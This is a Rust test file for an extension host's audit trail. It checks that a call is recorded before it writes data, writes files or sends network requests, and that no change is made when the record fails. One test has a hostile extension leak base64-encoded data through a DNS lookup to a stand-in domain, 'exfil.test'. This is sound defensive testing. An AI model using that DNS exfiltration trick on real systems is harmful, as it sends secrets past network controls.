//! A call's `call-start` record: stored, and awaited, before the call first changes something
//! that outlives it (a key-value write, an outgoing request; a read-write folder: before it
//! runs), so that a call the process does not live to finish is still on the trail. Calls that
//! change nothing get none; a change whose start cannot be recorded is not made.

use std::io;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::{Duration, Instant};

use warden_audit::{AuditError, AuditSink, Event, MemoryAudit, Pending, Record};
use warden_host::{CallError, ExtensionId, Grant, Host, Policy};

use crate::egress::{FakeResolver, Server, allow_loopback, network};
use crate::fs::{host_dir, mounts};
use crate::support::{Lab, text};

/// `open default`, in hostile-kv's script (names and values are hex).
const OPEN: &str = "open 64656661756c74";
/// `set k v`, `incr n 1`, `setmany a=b`: three writes.
const WRITES: &str = "set 6b 76\nincr 6e 1\nsetmany 61=62";

/// An audit store that refuses `call-start` records (as a full disk would refuse any), and keeps
/// the rest in memory.
#[derive(Default)]
struct RefusingStarts(MemoryAudit);

impl AuditSink for RefusingStarts {
    fn append(&self, record: Record) -> Result<(), AuditError> {
        if record.event() == Event::CallStart {
            return Err(AuditError::Io {
                action: "writing",
                path: PathBuf::from("/data/audit/audit.jsonl"),
                source: io::Error::from_raw_os_error(28), // ENOSPC
            });
        }
        self.0.append(record)
    }
}

/// An audit store whose records are queued at once and stored ("synced") 40 ms later, as a
/// busy disk's: a window in which a change waits for its `call-start`.
#[derive(Default)]
struct SlowSync(MemoryAudit);

impl AuditSink for SlowSync {
    fn append(&self, record: Record) -> Result<(), AuditError> {
        self.0.append(record)
    }

    fn append_all(&self, records: Vec<Record>) -> Pending {
        let queued = records.into_iter().try_for_each(|r| self.0.append(r));
        Pending::new(async move {
            tokio::time::sleep(Duration::from_millis(40)).await;
            queued
        })
    }
}

/// A lab whose host stores its records in a new `S` (and resolves names with `resolver`).
fn lab_with<S: AuditSink + Default + 'static>(
    policy: Policy,
    resolver: Option<Arc<FakeResolver>>,
) -> (Lab, Arc<S>) {
    let sink = Arc::new(S::default());
    let lab = Lab::with_builder(policy, {
        let sink = Arc::clone(&sink);
        |b| {
            let b = b.audit(sink);
            match resolver {
                Some(r) => b.resolver(r),
                None => b,
            }
        }
    });
    (lab, sink)
}

fn slow_sync(policy: Policy, resolver: Option<Arc<FakeResolver>>) -> (Lab, Arc<SlowSync>) {
    lab_with(policy, resolver)
}

fn refusing_starts(
    policy: Policy,
    resolver: Option<Arc<FakeResolver>>,
) -> (Lab, Arc<RefusingStarts>) {
    lab_with(policy, resolver)
}

async fn run_as(host: &Host, request_id: &str, id: &ExtensionId, script: &str) -> String {
    let out = host
        .default_tenant()
        .call_as(request_id.into(), id, "run", script.as_bytes())
        .await
        .unwrap();
    text(&out.value)
}

/// The records of one request, in the order they were stored.
fn of(records: &[Record], request_id: &str) -> Vec<(Event, Option<String>)> {
    records
        .iter()
        .filter(|r| r.request_id() == request_id)
        .map(|r| (r.event(), r.capability().map(str::to_owned)))
        .collect()
}

fn starts(records: &[Record], request_id: &str) -> usize {
    of(records, request_id)
        .iter()
        .filter(|(e, _)| *e == Event::CallStart)
        .count()
}

/// The one `call-start` of a request, before its `call` record.
fn started_before_it_ended(records: &[Record], request_id: &str, capability: &str) {
    let seen = of(records, request_id);
    let start = seen
        .iter()
        .position(|(e, c)| *e == Event::CallStart && c.as_deref() == Some(capability));
    let end = seen.iter().position(|(e, _)| *e == Event::Call);
    assert!(
        matches!((start, end), (Some(s), Some(e)) if s < e),
        "{request_id}: {seen:?}"
    );
    assert_eq!(starts(records, request_id), 1, "{request_id}: {seen:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_call_is_on_the_trail_before_its_first_write_and_a_reading_call_is_not() {
    let lab = Lab::new();
    let id = lab.load_granted("hostile-kv", |m| m, &Grant::All);

    let read = run_as(&lab.host, "r-read", &id, &format!("{OPEN}\nget 6b\nlist")).await;
    assert_eq!(read, "ok\nok:none\nok\n");
    assert_eq!(starts(&lab.audit.records(), "r-read"), 0);

    // A call that writes, then runs on: its start is on the trail while it runs, with what it
    // wrote already in the store.
    let host = lab.host.clone();
    let writing = {
        let id = id.clone();
        tokio::spawn(async move {
            run_as(
                &host,
                "r-write",
                &id,
                &format!("{OPEN}\n{WRITES}\nspin 3000"),
            )
            .await
        })
    };
    let deadline = Instant::now() + Duration::from_secs(5);
    let mut peeks = 0;
    while run_as(
        &lab.host,
        &format!("r-peek{peeks}"),
        &id,
        &format!("{OPEN}\nget 6b"),
    )
    .await
        != "ok\nok:76\n"
    {
        assert!(Instant::now() < deadline, "the write never came");
        peeks += 1;
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    // The write is in, the call still runs (it spins for 3 s after its writes): its start is
    // on the trail, its end not yet.
    let seen = of(&lab.audit.records(), "r-write");
    assert_eq!(
        seen,
        [(Event::CallStart, Some("kv".to_owned()))],
        "{seen:?}"
    );

    assert_eq!(writing.await.unwrap(), "ok\nok\nok:1\nok\nok\n");
    // Three writes, one start.
    started_before_it_ended(&lab.audit.records(), "r-write", "kv");
    let record = lab
        .audit
        .records()
        .into_iter()
        .find(|r| r.request_id() == "r-write" && r.event() == Event::CallStart)
        .unwrap();
    assert_eq!(record.extension(), Some(id.as_str()));
    assert!(
        record
            .message()
            .unwrap()
            .contains("its call record follows"),
        "{record:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_instance_kept_between_calls_is_witnessed_for_each_call() {
    let policy =
        Policy::parse("[policy.component]\nwarm_calls = 10\nwarm_extensions = [\"*\"]\n").unwrap();
    let lab = Lab::with_policy(policy);
    let id = lab.load_granted("hostile-kv", |m| m, &Grant::All);
    for (n, request) in ["w1", "r1", "w2", "w3"].into_iter().enumerate() {
        let script = if request.starts_with('w') {
            format!("{OPEN}\nset 6b 6{n}")
        } else {
            format!("{OPEN}\nget 6b")
        };
        run_as(&lab.host, request, &id, &script).await;
    }
    let records = lab.audit.records();
    for w in ["w1", "w2", "w3"] {
        started_before_it_ended(&records, w, "kv");
    }
    assert_eq!(starts(&records, "r1"), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_is_written_when_the_calls_start_cannot_be_recorded() {
    let (lab, sink) = refusing_starts(Policy::default(), None);
    let id = lab.load_granted("hostile-kv", |m| m, &Grant::All);
    let out = run_as(&lab.host, "r-refused", &id, &format!("{OPEN}\n{WRITES}")).await;
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 4, "{out}");
    for line in &lines[1..] {
        assert!(
            line.starts_with("err:other:the call's start could not be written to the audit log"),
            "{out}"
        );
    }
    // The host knows its log failed: the next call is refused (its refusal, stored, opens the
    // host again), and then nothing of the refused writes is in the store.
    let mut read = None;
    for n in 0..3 {
        match lab
            .host
            .default_tenant()
            .call_as(
                format!("r-after-{n}"),
                &id,
                "run",
                format!("{OPEN}\nget 6b\nget 6e\nlist").as_bytes(),
            )
            .await
        {
            Ok(out) => {
                read = Some(text(&out.value));
                break;
            }
            Err(e) => assert!(matches!(e.error, CallError::Unavailable(_)), "{e}"),
        }
    }
    assert_eq!(read.as_deref(), Some("ok\nok:none\nok:none\nok\n"));
    let records = sink.0.records();
    assert_eq!(starts(&records, "r-refused"), 0);
    assert!(
        of(&records, "r-refused").contains(&(Event::Call, None)),
        "the refused call still has its record"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_call_that_may_write_files_is_witnessed_before_it_runs() {
    let lab = Lab::new();
    let id = lab.load_granted("hostile-fs", mounts(&["/data"], &[]), &Grant::All);
    let out = lab
        .host
        .default_tenant()
        .call_as("f-list".into(), &id, "list", b"/data")
        .await
        .unwrap();
    assert!(text(&out.value).starts_with("ok"), "{}", text(&out.value));
    started_before_it_ended(&lab.audit.records(), "f-list", "filesystem");
    // Read-only folders only: nothing to witness.
    let ro = lab.load_granted(
        "hostile-fs",
        |m| mounts(&[], &["/data"])(m).replace("warden.hostile-fs", "warden.hostile-fs-ro"),
        &Grant::All,
    );
    lab.host
        .default_tenant()
        .call_as("f-ro".into(), &ro, "list", b"/data")
        .await
        .unwrap();
    assert_eq!(starts(&lab.audit.records(), "f-ro"), 0);

    // Its start refused: the call does not run (503, nothing written).
    let (lab, sink) = refusing_starts(Policy::default(), None);
    let id = lab.load_granted("hostile-fs", mounts(&["/data"], &[]), &Grant::All);
    let e = lab
        .host
        .default_tenant()
        .call_as("f-write".into(), &id, "write", b"/data/new.txt|x")
        .await
        .unwrap_err();
    assert!(matches!(e.error, CallError::Unavailable(_)), "{e}");
    let dir = host_dir(&lab, "default", "warden.hostile-fs", "data");
    assert!(!dir.join("new.txt").exists());
    // The refusal is kept and stored by the next request's probe (outside attack, session
    // 31: it left no record), after the one marker.
    let probe = lab
        .host
        .default_tenant()
        .call_as("f-probe".into(), &id, "list", b"/data")
        .await
        .unwrap_err();
    assert!(matches!(probe.error, CallError::Unavailable(_)), "{probe}");
    let records = sink.0.records();
    assert_eq!(
        of(&records, "f-write"),
        vec![(Event::Call, None)],
        "{records:#?}"
    );
    let refused = records
        .iter()
        .find(|r| r.request_id() == "f-write")
        .unwrap();
    assert!(
        refused
            .message()
            .is_some_and(|m| m.contains("the audit log cannot be written")),
        "{refused:?}"
    );
    let marker = records
        .iter()
        .position(|r| r.event() == Event::Recovery)
        .unwrap();
    let at = records
        .iter()
        .position(|r| r.request_id() == "f-write")
        .unwrap();
    assert!(marker < at, "{records:#?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_outgoing_request_is_witnessed_before_it_is_sent() {
    let server = Server::ok("hello");
    let port = server.port();
    let resolver = FakeResolver::new(&[("api.acme.test", &[&["127.0.0.1"]])]);
    let url = format!("http://api.acme.test:{port}/x");

    let lab = Lab::with_resolver(allow_loopback(), Some(resolver.clone()));
    let id = lab.load_granted("hostile", network(&["api.acme.test"], &[port]), &Grant::All);
    let out = lab
        .host
        .default_tenant()
        .call_as("n-1".into(), &id, "egress", url.as_bytes())
        .await
        .unwrap();
    assert!(
        text(&out.value).starts_with("egress=ok:200"),
        "{}",
        text(&out.value)
    );
    started_before_it_ended(&lab.audit.records(), "n-1", "network");
    assert_eq!(server.connections(), 1);

    // Its start refused: nothing is sent.
    let (lab, _sink) = refusing_starts(allow_loopback(), Some(resolver));
    let id = lab.load_granted("hostile", network(&["api.acme.test"], &[port]), &Grant::All);
    let out = lab
        .host
        .default_tenant()
        .call_as("n-2".into(), &id, "egress", url.as_bytes())
        .await
        .unwrap();
    assert!(
        text(&out.value).starts_with("egress=err:"),
        "{}",
        text(&out.value)
    );
    assert_eq!(server.connections(), 1, "nothing more reached the server");
}

/// A guest that starts requests and drops each while it waits for the call's `call-start`
/// (outside attack: every dropped wait wrote the record again, up to 142 in one call): one
/// record, and nothing sent.
#[tokio::test(flavor = "multi_thread")]
async fn a_change_given_up_while_its_start_is_stored_does_not_store_it_again() {
    let server = Server::ok("hello");
    let port = server.port();
    let resolver = FakeResolver::new(&[("api.acme.test", &[&["127.0.0.1"]])]);
    let (lab, sink) = slow_sync(allow_loopback(), Some(resolver));
    let id = lab.load_granted("hostile", network(&["api.acme.test"], &[port]), &Grant::All);
    let input = format!("10 http://api.acme.test:{port}/x");
    let out = lab
        .host
        .default_tenant()
        .call_as("n-drop".into(), &id, "egress-dropped", input.as_bytes())
        .await
        .unwrap();
    assert_eq!(text(&out.value), "dropped=10 other=0");
    let records = sink.0.records();
    assert_eq!(
        starts(&records, "n-drop"),
        1,
        "{:?}",
        of(&records, "n-drop")
    );
    started_before_it_ended(&records, "n-drop", "network");
    assert_eq!(server.connections(), 0);
}

/// A caller that hangs up while the call's start is being stored (a read-write folder: before
/// the call runs) leaves the call's record too, not a `call-start` alone that reads as a call
/// the service did not survive (outside attack: 39 of 40 hung-up requests).
#[tokio::test(flavor = "multi_thread")]
async fn a_caller_gone_while_the_start_is_stored_leaves_the_calls_record_too() {
    let (lab, sink) = slow_sync(Policy::default(), None);
    let id = lab.load_granted("hostile-fs", mounts(&["/data"], &[]), &Grant::All);
    let tenant = lab.host.default_tenant();
    let call = tenant.call_as("f-gone".into(), &id, "write", b"/data/gone.txt|x");
    assert!(
        tokio::time::timeout(Duration::from_millis(10), call)
            .await
            .is_err(),
        "the call waits for its start to be stored"
    );
    let deadline = Instant::now() + Duration::from_secs(5);
    while !of(&sink.0.records(), "f-gone").contains(&(Event::Call, None)) {
        assert!(
            Instant::now() < deadline,
            "{:?}",
            of(&sink.0.records(), "f-gone")
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let records = sink.0.records();
    started_before_it_ended(&records, "f-gone", "filesystem");
    let end = records
        .iter()
        .find(|r| r.request_id() == "f-gone" && r.event() == Event::Call)
        .unwrap();
    assert!(
        end.message().unwrap().contains("the caller went away"),
        "{end:?}"
    );
    let dir = host_dir(&lab, "default", "warden.hostile-fs", "data");
    assert!(!dir.join("gone.txt").exists(), "the call never ran");
}

/// A name lookup is a message to the name's servers, which the guest chose within its grant
/// (outside attack: data sent out in the name under an allowed wildcard, with no trace when
/// the lookup failed): witnessed first, and recorded even when it fails.
#[tokio::test(flavor = "multi_thread")]
async fn a_name_lookup_is_witnessed_and_recorded_even_when_it_fails() {
    let resolver = FakeResolver::new(&[]);
    let lab = Lab::with_resolver(allow_loopback(), Some(resolver.clone()));
    let id = lab.load_granted("hostile", network(&["*.exfil.test"], &[80]), &Grant::All);
    let out = lab
        .host
        .default_tenant()
        .call_as("d-1".into(), &id, "lookup", b"c2VjcmV0.exfil.test")
        .await
        .unwrap();
    assert!(
        text(&out.value).starts_with("lookup=err:"),
        "{}",
        text(&out.value)
    );
    assert_eq!(resolver.calls(), 1);
    let records = lab.audit.records();
    started_before_it_ended(&records, "d-1", "network");
    assert!(
        records.iter().any(|r| r.request_id() == "d-1"
            && r.event() == Event::Grant
            && r.target() == Some("dns:c2VjcmV0.exfil.test")),
        "{:?}",
        of(&records, "d-1")
    );
}

/// A call made by another extension is recorded under its caller's request id (`CALLER.N`):
/// what a request caused, a callee's write and its `call-start` included, is found by its id
/// (outside attack: after kill -9 only the callee's start was left, under an unrelated id).
#[tokio::test(flavor = "multi_thread")]
async fn a_callees_start_is_recorded_under_its_callers_request_id() {
    let lab = Lab::new();
    let kv = lab.load_granted("hostile-kv", |m| m, &Grant::All);
    let c = lab.load_granted(
        "caller",
        |m| {
            m.replace(
                "calls = [\"warden.echo\"]",
                &format!("calls = [{:?}]", kv.as_str()),
            )
        },
        &Grant::All,
    );
    let input = format!("{} run\n{OPEN};set 6b 76", kv.as_str());
    let out = lab
        .host
        .default_tenant()
        .call_as("top".into(), &c, "call", input.as_bytes())
        .await
        .unwrap();
    assert_eq!(text(&out.value), "ok:ok\nok\n");
    let records = lab.audit.records();
    started_before_it_ended(&records, "top.1", "kv");
    assert!(
        records
            .iter()
            .any(|r| r.request_id() == "top.1" && r.extension() == Some(kv.as_str())),
        "{records:?}"
    );
    // The caller changed nothing itself.
    assert_eq!(starts(&records, "top"), 0);
    assert!(of(&records, "top").contains(&(Event::Call, None)));
}
